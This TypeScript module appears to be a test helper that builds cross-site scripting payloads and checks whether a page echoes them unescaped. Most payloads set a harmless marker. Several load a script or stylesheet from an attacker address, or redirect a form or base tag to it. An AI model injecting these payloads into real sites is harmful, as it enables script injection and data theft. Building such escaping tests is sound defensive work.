/** Texts that would run, load or lead somewhere, should a page show them as they are. `lure` is an address of the attacker. */
export function payloadsFor(lure: string): string[] {
  return [
    "<script>window.ltXss=1</script>",
    `"><img src=x onerror=window.ltXss=1>`,
    `<svg/onload=window.ltXss=1>`,
    `</title><script src="${lure}/evil.js"></script>`,
    `<iframe srcdoc="<script>parent.ltXss=1</script>"></iframe>`,
    `<a id=bay href="javascript:window.ltXss=1">x</a>`,
    `<base href="${lure}/">`,
    `<form action="${lure}/form"><input name=pin autofocus onfocus=window.ltXss=1></form>`,
    `<meta http-equiv=refresh content="0;url=javascript:window.ltXss=1">`,
    `<img src="${lure}/pixel.png"><style>@import "${lure}/evil.css";</style>`,
    `<math><mtext><option><style><img src onerror=window.ltXss=1></style>`,
    `' onmouseover='window.ltXss=1`,
    "{{constructor.constructor('window.ltXss=1')()}}${window.ltXss=1}",
    `<object data="data:text/html,<script>parent.ltXss=1</script>"></object>`,
    `&lt;script&gt;window.ltXss=1&lt;/script&gt;`,
  ];
}

/** Those of the payloads that stand in a page as they were given, and links of it that would run. */
export function leaks(html: string, payloads: readonly string[]): string[] {
  // Attributes are written in double quotation marks: a single one is a sign like any other.
  const raw = payloads.filter((payload) => /[<>"]/.test(payload) && html.includes(payload));
  const links = [...html.matchAll(/\s(?:href|src|action|formaction)\s*=\s*["']?\s*(javascript|data|vbscript):/gi)];
  return [...raw, ...links.map(([link]) => link)];
}
